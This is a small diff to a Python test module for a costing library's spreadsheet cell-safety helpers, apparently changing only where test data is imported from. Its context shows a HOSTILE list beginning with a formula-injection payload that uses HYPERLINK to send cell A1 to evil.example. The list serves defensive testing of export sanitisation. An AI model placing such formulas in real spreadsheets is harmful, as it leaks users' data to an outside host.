@@ -10,7 +10,7 @@ from openpyxl import load_workbook
 from costing.db.io_tables import export_library, read_library_tables
 from costing.db.repository import CostLibrary
 from costing.report.cell_safety import csv_cell, csv_value, xlsx_cell
-from tests.costing.conftest import tiny_data
+from tests.costing.library_data import tiny_data
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
